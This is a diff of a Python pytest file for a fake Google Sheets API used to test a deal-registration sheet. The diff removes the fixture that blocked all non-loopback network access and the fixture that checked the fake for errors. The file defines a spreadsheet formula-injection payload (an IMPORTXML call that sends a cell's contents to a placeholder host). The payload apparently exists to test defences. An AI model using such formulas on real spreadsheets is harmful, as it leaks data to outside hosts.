@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import threading
 import time
-from collections.abc import Iterator
 
 import gspread
 import pytest
@@ -17,9 +16,7 @@ from tests.fakes.sheets_api import (
     FakeCredentials,
     FakeSheetsAPI,
     GridRange,
-    fake_sheets_api,
     gspread_client_for,
-    loopback_only,
     parse_a1,
     split_sheet_title,
 )
@@ -27,25 +24,6 @@ from tests.fakes.sheets_api import (
 SID = "1dealregTestSheetId"
 HEADER = ["claim_id", "company", "domain", "partner"]
 INJECTION = '=IMPORTXML("http://x/?"&A2,"//a")'
-
-@pytest.fixture
-def api() -> Iterator[FakeSheetsAPI]:
-    yield from fake_sheets_api()
-
-
-@pytest.fixture(autouse=True)
-def fake_has_no_bugs(api: FakeSheetsAPI):
-    yield
-    assert api.errors == [], "the fake itself raised:\n" + "\n".join(api.errors)
-
-
-@pytest.fixture(autouse=True)
-def no_internet():
-    """Every test runs with DNS for non-loopback hosts failing, so nothing leaves the machine."""
-    with loopback_only() as refused:
-        yield refused
-    assert refused == [], f"a test tried to reach {refused}"
-
 
 @pytest.fixture
 def book(api: FakeSheetsAPI) -> gspread.Spreadsheet:
